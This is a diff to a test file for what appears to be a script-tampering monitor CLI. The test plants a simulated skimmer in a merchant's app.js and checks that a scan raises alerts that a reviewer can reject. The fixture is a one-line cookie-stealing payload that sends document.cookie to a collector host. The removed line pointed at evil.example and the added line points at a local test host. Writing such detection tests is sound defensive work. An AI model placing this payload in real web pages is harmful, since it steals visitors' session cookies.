@@ -42,8 +42,9 @@ describe('db copy', () => {
     assert.equal((await cli(['scan'])).code, 0);
     assert.equal((await cli(['approve', '--all', '--by', 'alice', '--note', 'first baseline'])).code, 0);
     assert.equal((await runCli(['users', 'add', 'vera', '--role', 'approver', '--password-stdin'], { cwd: dir, input: 'a long enough passphrase\n' })).code, 0);
-    site.set('merchant.test', '/static/app.js', 'window.app = 1;\nnew Image().src = "https://evil.example/c?" + document.cookie;');
-    assert.equal((await cli(['scan'])).code, 1, 'the tampered script raises alerts, with evidence');
+    site.set('merchant.test', '/static/app.js', `window.app = 1;\nnew Image().src = "${site.url('collect.test', '/c')}?" + document.cookie;`);
+    const tampered = await cli(['scan']);
+    assert.equal(tampered.code, 1, `the tampered script raises alerts, with evidence: ${tampered.stdout}${tampered.stderr}`);
     const alerts = parseJson<{ alerts: { id: number }[] }>(await cli(['alerts', '--json'])).alerts;
     assert.ok(alerts.length > 0);
     assert.equal((await cli(['reject', String(alerts[0]!.id), '--by', 'vera', '--note', 'skimmer'])).code, 0);
